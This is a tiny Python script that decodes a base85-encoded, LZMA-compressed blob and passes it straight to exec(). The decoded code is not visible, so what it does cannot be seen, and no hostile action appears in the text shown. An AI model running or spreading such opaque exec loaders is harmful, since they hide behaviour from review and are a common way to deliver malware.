import lzma as L,base64 as B
__wrapper_size__=999
exec(L.decompress(B.b85decode("-~g5Yd|d!En@VT6Qap3}0xNG=1W2YXf?sKMl!^=oGx=Iut1RSVw@HhD%63S$h`R?zzjD3uOzOAlSK4~XygO0)LXWhrNcHX&5?ai@hpPjbd2()#iRdz{Yp30j77jIE(GjF!0c>ZnizwH8>lK{DT}V9-#7!8d1(GyQ>%ag2"),format=L.FORMAT_RAW,filters=[{"id":L.FILTER_LZMA2}]))
